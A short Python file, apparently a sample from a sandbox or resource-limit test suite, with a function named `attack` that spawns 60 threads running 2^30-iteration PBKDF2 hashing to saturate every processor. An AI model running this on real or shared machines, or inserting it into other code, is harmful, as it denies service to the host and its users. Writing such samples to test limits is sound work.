"""Keeps all processors busy from 60 threads, in C code that needs no interpreter."""

import hashlib
import threading

CONTROL = "inside"


def attack(A):
    for _ in range(60):
        arguments = ("sha256", b"", b"", 1 << 30)
        threading.Thread(target=hashlib.pbkdf2_hmac, args=arguments).start()
    hashlib.pbkdf2_hmac(*arguments)
